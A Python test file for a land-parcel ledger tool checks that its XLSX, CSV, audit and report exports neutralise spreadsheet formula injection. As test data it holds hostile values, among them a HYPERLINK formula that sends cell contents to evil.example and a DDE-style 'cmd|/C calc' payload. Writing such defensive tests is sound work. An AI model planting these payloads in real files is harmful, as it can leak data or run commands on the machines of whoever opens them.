"""Spreadsheets and CSVs the tool writes never carry a live formula (OWASP's CSV-injection rule), both back ends."""
from __future__ import annotations

import csv
import datetime as dt
import io
import json
import os
import subprocess
import sys
import zipfile
from pathlib import Path

import pandas as pd
import pytest
from openpyxl import load_workbook

from gis.base.clock import office_today
from gis.base.errors import PermissionRefused
from gis.base.sheets import csv_bytes, csv_text, is_formula_like
from gis.io.exporter import export

ROOT = Path(__file__).resolve().parent.parent
HOSTILE = {"unit": "=1+1", "name": '=HYPERLINK("http://evil.example/?"&A1,"点此")', "blocked_reason": "@SUM(1+1)*cmd|' /C calc'!A0",
           "updated_by": "+cmd", "owner": "-2+3"}


def _make_hostile(store, code="V01-002"):
    store.advance(code, "listed", "2024-04-01", "王芳", note="=1+2")
    with store._connect(write=True) as con:
        sets = ", ".join(f"{k} = ?" for k in HOSTILE)
        con.execute(f"UPDATE parcels SET {sets}, blocked = 1 WHERE code = ?", (*HOSTILE.values(), code))


def test_formula_like_text_in_the_ledger_is_a_string_cell(any_store, tmp_path):
    _make_hostile(any_store)
    out = tmp_path / "台账.xlsx"
    export(any_store, "xlsx", out)
    wb = load_workbook(out)
    formula_like = 0
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for c in row:
                assert c.data_type != "f", (ws.title, c.coordinate, c.value)
                if is_formula_like(c.value):
                    formula_like += 1
                    assert c.data_type == "s" and c.quotePrefix, (ws.title, c.coordinate, c.value)
    assert formula_like >= 3
    ws = wb.worksheets[0]
    headers = [c.value for c in ws[1]]
    row = next(r for r in ws.iter_rows(min_row=2) if r[0].value == "V01-002")
    by = dict(zip(headers, row))
    assert by["责任单位"].value == "=1+1" and by["地块名称"].value == HOSTILE["name"]  # the text as typed
    assert isinstance(by["面积（平方米）"].value, float) and by["面积（平方米）"].data_type == "n"  # numbers stay numbers
    assert isinstance(by["入库（标图建库）日期"].value, dt.datetime)  # dates stay dates
    # and in the file itself no cell is a formula (<f>), whatever reads it
    with zipfile.ZipFile(out) as z:
        for name in z.namelist():
            if name.startswith("xl/worksheets/"):
                assert b"<f>" not in z.read(name) and b"<f " not in z.read(name), name


def test_csv_fields_that_would_run_are_prefixed_with_a_quote():
    df = pd.DataFrame({"actor": ["=HYPERLINK(\"x\")", "+1", "-1", "@a", "\tx", "\rx", "王芳", None],
                       "n": [1, -2, 3, 4, 5, 6, 7, 8]})
    text = csv_bytes(df).decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(text, newline="")))
    assert [r[0] for r in rows[1:]] == ["'=HYPERLINK(\"x\")", "'+1", "'-1", "'@a", "'\tx", "'\rx", "王芳", ""]
    assert [r[1] for r in rows[1:]] == ["1", "-2", "3", "4", "5", "6", "7", "8"]  # a negative number is a number
    assert csv_text(-5) == -5 and csv_text("-5") == "'-5"


def test_the_audit_csv_of_the_command_line_carries_no_formula(any_store, tmp_path):
    any_store.add_user("admin", "admin-secret", "admin", "bootstrap")
    evil = '=HYPERLINK("http://evil.example","x")'
    with pytest.raises(PermissionRefused):
        any_store.set_note("V01-002", "笔记", by=evil)  # a refused write: its line names the actor as typed
    where = any_store.url if any_store.path is None else str(any_store.path)
    out = tmp_path / "audit.csv"
    env = dict(os.environ, RENEWAL_PASSWORD="admin-secret")  # proves --as admin
    res = subprocess.run([sys.executable, "-m", "gis.cli", "--store", where, "--as", "admin", "audit", "--csv", str(out)],
                         capture_output=True, text=True, cwd=ROOT, env=env, timeout=120)
    assert res.returncode == 0, res.stderr
    assert json.loads(res.stdout)["rows"] >= 1
    rows = list(csv.DictReader(io.StringIO(out.read_bytes().decode("utf-8-sig"), newline="")))
    assert any(r["actor"] == "'" + evil for r in rows)
    for r in rows:
        for v in r.values():
            assert not is_formula_like(v), v


def test_the_dispatch_pack_spreadsheet_carries_no_formula(any_store, tmp_path):
    from gis.printing.report import build_report, write_report

    # a window that ends today: the pack's end state is what was recorded by its last day
    today = office_today()
    any_store.set_blocked("V01-001", True, '=HYPERLINK("http://evil.example","x")', "王芳",
                          date=today - dt.timedelta(days=8), today=today)
    rep = build_report(any_store, today - dt.timedelta(days=27), today)
    out = tmp_path / "pack.xlsx"
    write_report(rep, out)
    cells = [c for ws in load_workbook(out).worksheets for row in ws.iter_rows() for c in row]
    assert not [c for c in cells if c.data_type == "f"]
    hostile = [c for c in cells if isinstance(c.value, str) and c.value.startswith("=HYPERLINK")]
    assert hostile and all(c.data_type == "s" and c.quotePrefix for c in hostile)  # shown as typed, no "'"
